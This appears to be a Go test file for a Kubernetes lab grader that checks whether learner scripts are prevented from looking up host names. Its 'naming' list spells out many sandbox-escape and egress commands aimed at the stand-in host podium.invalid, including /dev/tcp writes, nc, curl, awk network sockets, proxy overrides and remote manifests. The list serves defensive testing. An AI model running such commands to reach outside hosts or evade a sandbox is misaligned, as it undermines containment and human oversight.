package answer_test

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"k8s.io/client-go/tools/clientcmd"
	clientcmdapi "k8s.io/client-go/tools/clientcmd/api"

	"github.com/podium-labs/podium/graders/answer"
	"github.com/podium-labs/podium/graders/answer/answertest"
)

// naming are ways to make something talk to a host by its name.
const naming = `
kubectl get pods --server https://podium.invalid
kubectl -s podium.invalid:6443 get pods
kubectl get --raw https://podium.invalid/
kubectl get --raw //podium.invalid/api
kubectl apply -f https://podium.invalid/a.yaml
kubectl apply -f http://podium.invalid/a.yaml
kubectl create -f HTTPS://podium.invalid/a.yaml
kubectl replace -f ftp://podium.invalid/a.yaml
kubectl delete -f https://podium.invalid/a.yaml
kubectl apply -k https://podium.invalid/a
kubectl apply -k github.com/podium-labs/podium
kubectl kustomize git@podium.invalid:a/b
mkdir k; printf 'resources:\n- https://podium.invalid/a.yaml\n- git::https://podium.invalid/b\n' > k/kustomization.yaml
kubectl kustomize k; kubectl apply -k k
printf 'helmCharts:\n- {name: a, repo: "https://podium.invalid"}\n' > k/kustomization.yaml
kubectl kustomize --enable-helm k
kubectl create configmap a --from-file=https://podium.invalid/a
kubectl config set-cluster other --server=https://podium.invalid; kubectl --cluster other get pods
printf '{"apiVersion":"v1","kind":"Config","current-context":"x","clusters":[{"name":"x","cluster":{"server":"https://podium.invalid"}}],"contexts":[{"name":"x","context":{"cluster":"x"}}]}' > c
kubectl --kubeconfig c get pods; KUBECONFIG=c kubectl get pods; export KUBECONFIG=c; kubectl get pods
export HTTPS_PROXY=http://podium.invalid:3128 https_proxy=http://podium.invalid:3128 ALL_PROXY=socks5://podium.invalid:1080; kubectl get pods; kubectl version; kubectl api-resources; kubectl cluster-info
export KUBERNETES_SERVICE_HOST=podium.invalid KUBERNETES_SERVICE_PORT=443; kubectl get pods
kubectl run a --image=podium.invalid/a; kubectl port-forward pod/a 80; kubectl exec a -- id; kubectl proxy
kubectl get --raw '/apis/../../podium.invalid'
echo x > /dev/tcp/podium.invalid/80
echo x > /dev/udp/podium.invalid/53
exec 3<>/dev/tcp/podium.invalid/80
cat < /dev/tcp/podium.invalid/80
curl https://podium.invalid; wget podium.invalid; nc podium.invalid 80; ping podium.invalid; getent hosts podium.invalid; host podium.invalid; ssh podium.invalid
awk 'BEGIN { "/inet/tcp/0/podium.invalid/80" |& getline; print > "/inet/tcp/0/podium.invalid/80" }'
awk 'BEGIN { getline < "/inet/tcp/0/podium.invalid/80" }'
jq -n 'import "https://podium.invalid/a" as a; 1'; jq -n 'input_filename, $ENV.HOME, now | localtime'
yq -n 'load("https://podium.invalid/a")'
hostname -f; date; TZ=podium.invalid date; cd ~podium.invalid; . https://podium.invalid/a
sed 'r https://podium.invalid/a' c; sort https://podium.invalid/a; grep -r x https://podium.invalid
`

// TestNoNameIsLookedUp: the process of an answer is ended by its first question to a name server; see TestMain. Nothing that a script can
// say makes it ask one, nor does what it does all the time.
func TestNoNameIsLookedUp(t *testing.T) {
	given := credentials(t)
	p := start(t, answer.Config{Kubeconfig: given.Learner, Namespace: "lab-2"})
	for line := range strings.Lines(naming) {
		if got, err := p.Run(t.Context(), script(line)); err != nil || got.TimedOut {
			t.Errorf("%s%+v, %v", line, got, err)
		}
	}
	if got, err := p.Run(t.Context(), script("kubectl auth whoami -o name")); err != nil || got.ExitCode != 0 {
		t.Errorf("the API server is out of reach: %+v, %v", got, err)
	}
}

// TestLookupsAreTrapped shows that the test above can fail.
func TestLookupsAreTrapped(t *testing.T) {
	deeds := []answer.Deed{{Kind: answer.Connect, Target: "podium.invalid:80"}}
	_, err := answer.Attempt(t.Context(), answer.Config{Binary: os.Args[0], TempDir: t.TempDir()}, "127.0.0.1:1", deeds)
	if _, crashed := errors.AsType[*answer.CrashError](err); !crashed || !strings.Contains(err.Error(), answertest.LookedUp) {
		t.Errorf("got %v", err)
	}
}

// TestServerIsGivenByItsAddress: where a kubeconfig names its server, the name is looked up before the answer's process is there.
func TestServerIsGivenByItsAddress(t *testing.T) {
	name := filepath.Join(t.TempDir(), "config")
	config := clientcmdapi.Config{
		Clusters: map[string]*clientcmdapi.Cluster{"x": {Server: "https://localhost:1"}}, Contexts: map[string]*clientcmdapi.Context{"x": {Cluster: "x"}}, CurrentContext: "x",
	}
	if err := clientcmd.WriteToFile(config, name); err != nil {
		t.Fatal(err)
	}
	p := start(t, answer.Config{Kubeconfig: name})
	got, err := p.Run(t.Context(), script("kubectl config view --minify -o jsonpath='{.clusters[0].cluster.server} {.clusters[0].cluster.tls-server-name}'; kubectl get pods"))
	if err != nil || !strings.HasPrefix(got.Output, "https://127.0.0.1:1 localhost") && !strings.HasPrefix(got.Output, "https://[::1]:1 localhost") {
		t.Errorf("%+v, %v", got, err)
	}
}
